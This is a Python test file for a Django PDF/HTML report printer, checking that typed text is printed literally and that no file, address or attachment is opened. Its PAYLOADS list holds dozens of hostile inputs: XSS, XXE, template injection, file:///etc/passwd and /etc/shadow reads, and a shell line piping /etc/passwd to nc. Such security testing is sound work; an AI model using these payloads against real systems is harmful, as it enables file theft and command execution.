"""What people type is printed, never obeyed: no address opened, no file read, nothing attached (reliability D1-D4)."""

import io
import socket
import sys

import pytest
from django.conf import settings
from pypdf import PdfReader

from dossiers.blocks import Paper, Paragraph
from dossiers.kinds import achievement_report, proposal
from dossiers.kinds.report_input import ReportInput
from dossiers.printing.html import render_html
from dossiers.printing.pdf import render_pdf
from tests.dossiers import samples
from tests.dossiers.reading import printed, text_of

PAYLOADS = [
    "<img src=http://127.0.0.1:{port}/a.png>",
    "<img src=file:///etc/passwd>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<link rel=stylesheet href=http://127.0.0.1:{port}/a.css>",
    "<style>@import url(http://127.0.0.1:{port}/b.css);</style>",
    "<p style='background:url(http://127.0.0.1:{port}/c.png)'>",
    "<a href=http://127.0.0.1:{port}/d rel=attachment>tệp</a>",
    "<svg><image href='file:///etc/hostname'/></svg>",
    "<object data=file:///etc/passwd></object>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:{port}/'>",
    "<base href=http://127.0.0.1:{port}/>",
    "<script>alert(1)</script>",
    "</td></tr></table><h1>to</h1>",
    "{{{{7*7}}}} {{% debug %}} {{# x #}}",
    "${{7*7}} #{{7*7}} <%= 7*7 %>",
    "&lt;b&gt; &amp; &#x41;",
    "]]> <!-- --> <![CDATA[",
    # What fetches: by element, by attribute, by style.
    "<img srcset='http://127.0.0.1:{port}/s.png 2x'>",
    "<image src=http://127.0.0.1:{port}/i.png>",
    "<picture><source srcset=http://127.0.0.1:{port}/p.webp></picture>",
    "<input type=image src=http://127.0.0.1:{port}/n.png>",
    "<video poster=http://127.0.0.1:{port}/v.png src=http://127.0.0.1:{port}/v.mp4></video>",
    "<audio src=http://127.0.0.1:{port}/a.mp3></audio>",
    "<embed src=http://127.0.0.1:{port}/e.svg>",
    "<iframe src=http://127.0.0.1:{port}/f></iframe>",
    "<iframe srcdoc='&lt;img src=file:///etc/passwd&gt;'></iframe>",
    "<frameset><frame src=file:///etc/passwd></frameset>",
    "<body background=http://127.0.0.1:{port}/bg.png>",
    "<td background=file:///etc/hosts>",
    "<link rel=icon href=http://127.0.0.1:{port}/favicon.ico>",
    "<link rel='alternate stylesheet' href=file:///etc/passwd>",
    "<link rel=prefetch href=http://127.0.0.1:{port}/pre>",
    "<a rel=attachment href=file:///etc/shadow download>x</a>",
    "<a ping=http://127.0.0.1:{port}/ping href=#>x</a>",
    "<form action=http://127.0.0.1:{port}/form><input name=a></form>",
    "<use href='http://127.0.0.1:{port}/u.svg#a'/>",
    "<svg><use xlink:href='file:///etc/passwd#a'/></svg>",
    "<svg><foreignObject><img src=file:///etc/passwd></foreignObject></svg>",
    "<svg><style>@import 'http://127.0.0.1:{port}/s.css';</style></svg>",
    "<svg><filter><feImage href='http://127.0.0.1:{port}/fe.png'/></filter></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><img src=http://127.0.0.1:{port}/m.png></mtext></math>",
    "<style>@font-face {{ font-family: x; src: url(http://127.0.0.1:{port}/x.woff2) }}</style>",
    "<style>p {{ content: url(file:///etc/passwd) }}</style>",
    "<style>@page {{ background: url(http://127.0.0.1:{port}/page.png) }}</style>",
    "<style>li {{ list-style-image: url(http://127.0.0.1:{port}/li.png) }}</style>",
    "<style>p::before {{ content: attr(href url) }}</style>",
    "<style>@namespace url(http://127.0.0.1:{port}/ns); @charset 'utf-7';</style>",
    "<p style='border-image: url(http://127.0.0.1:{port}/b.png) 30'>",
    "<p style='mask-image: url(file:///proc/self/environ)'>",
    "<p style='background: image-set(url(http://127.0.0.1:{port}/i.png) 1x)'>",
    "<p style='cursor: url(http://127.0.0.1:{port}/c.cur), auto'>",
    '<p style="bookmark-label: url(file:///etc/passwd)">',
    "url(paper:tinos-regular.woff2) paper:../../../etc/passwd",
    # What runs, breaks out, or means something to a program behind.
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><plaintext><listing>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]> &x;",
    "<?xml-stylesheet href='http://127.0.0.1:{port}/x.xsl'?>",
    "<?php system('id'); ?> <%@ include file='/etc/passwd' %>",
    "<xi:include href='file:///etc/passwd' parse='text'/>",
    "<textarea><title></title></textarea><select><option>",
    "--></style></script></title></textarea>",
    "\\x3cscript\\x3e %3Cscript%3E &#60;script&#62; &#x3c;script&#x3e;",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{% include '/etc/passwd' %}} {{% load static %}}",
    "{{0.__class__.__init__.__globals__}} {{name!r:>99}} %(secret)s %s %n",
    "$(curl http://127.0.0.1:{port}/sh) `id` ; cat /etc/passwd | nc 127.0.0.1 {port}",
    "/JavaScript /Launch /EmbeddedFile ) >> endobj %%EOF",
    "=cmd|'/c calc'!A1 @SUM(1) +1 -1",
]
CHUNKS = 4  # of a field that holds several of them
_watched: list[str] | None = None


def _watch(event: str, arguments: tuple) -> None:
    if _watched is not None and event in {"open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen"}:
        _watched.append(f"{event} {arguments[0]}")


sys.addaudithook(_watch)


@pytest.fixture
def canary():
    """A port of this machine on which nobody may knock."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        yield listener


@pytest.fixture
def nothing_opened():
    """Gathers every file and address opened by Python while it is used; fonts and style were read before."""
    global _watched  # noqa: PLW0603 - an audit hook cannot be removed, so it is switched
    render_pdf("<p>ấm</p>", title="")
    _watched = []
    yield _watched
    _watched = None


def hostile(canary) -> list[str]:
    port = canary.getsockname()[1]
    return [payload.format(port=port) for payload in PAYLOADS]


def together(canary) -> list[str]:
    """The same in a few long texts: each field of a paper holds a quarter of them."""
    payloads = hostile(canary)
    return [" ".join(payloads[start::CHUNKS]) for start in range(CHUNKS)]


def knocked(canary) -> bool:
    try:
        canary.accept()
    except BlockingIOError:
        return False
    return True


def squeezed(text: str) -> str:
    """Lines are broken anywhere in what has no spaces."""
    return "".join(text.split())


def missing(canary, text: str) -> list[str]:
    return [payload for payload in hostile(canary) if squeezed(payload) not in squeezed(text)]


def test_typed_markup_is_printed_literally_and_nothing_is_fetched(canary, nothing_opened):
    text = ""
    for start in range(CHUNKS):  # of one page each: no number of a page comes in between
        paper = Paper("x", "x", tuple(Paragraph(payload) for payload in hostile(canary)[start::CHUNKS]))
        html = render_html(paper)
        nothing_opened.clear()  # templates were read
        pdf = render_pdf(html, title="")
        assert (list(nothing_opened), knocked(canary)) == ([], False)
        reader = PdfReader(io.BytesIO(pdf))
        assert (len(reader.pages), reader.attachments) == (1, {})
        assert "<script" not in html
        text += text_of(reader)
    assert missing(canary, text) == []


def test_there_are_as_many_payloads_as_promised():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("chunk", range(CHUNKS))
def test_hostile_text_in_every_field_of_a_report_is_printed_literally(canary, chunk):
    payload = together(canary)[chunk]
    head = samples.collective_report().head.model_copy(update={"issuer": (payload,), "parent": payload})
    data = samples.collective_report(
        head=head,
        form_code=payload,
        theme=payload,
        name=payload,
        facts=({"label": payload, "value": payload},),
        situation=payload,
        achievements=payload,
        evidence=(payload,),
        sections=({"title": payload, "text": payload},),
        awards=({"year": 2022, "name": payload, "decision": payload},),
        by_superior={"name": payload, "remark": payload, "on": "2024-12-02"},
    )
    reader = printed(achievement_report.build(ReportInput(data)))
    text = squeezed(text_of(reader))
    fewest = min(text.count(squeezed(one)) for one in hostile(canary)[chunk::CHUNKS])
    assert fewest >= 15  # of 16; the number of a page may come between the words of one
    assert (knocked(canary), reader.attachments) == (False, {})


def test_hostile_names_in_the_lists_of_a_proposal_are_printed_literally(canary):
    people, payloads = samples.individuals(), hostile(canary)
    named = tuple(
        one.model_copy(update={"name": " ".join(payloads[start :: len(people)])}) for start, one in enumerate(people)
    )
    reader = printed(proposal.build(samples.proposal(individuals=named)))
    assert missing(canary, text_of(reader)) == []
    assert (knocked(canary), reader.attachments) == (False, {})


def test_markup_that_asks_for_files_and_addresses_gets_none(canary, nothing_opened):
    """The second wall: even HTML that was not escaped cannot make the renderer fetch."""
    nothing_opened.clear()
    pdf = render_pdf("".join(hostile(canary)), title="")
    assert (nothing_opened, knocked(canary)) == ([], False)
    assert b"/EmbeddedFile" not in pdf


def test_no_print_template_switches_escaping_off():
    templates = sorted((settings.BASE_DIR / "templates/print").glob("*.html"))
    assert templates
    assert [t.name for t in templates if "safe" in t.read_text() or "autoescape" in t.read_text()] == []


def test_control_and_direction_characters_are_left_out():
    typed = "A\x00B\x0bC\u202eD\u2066E\ud800F"
    assert text_of(printed(Paper("x", "x", (Paragraph(typed),)))) == "ABCDEF"
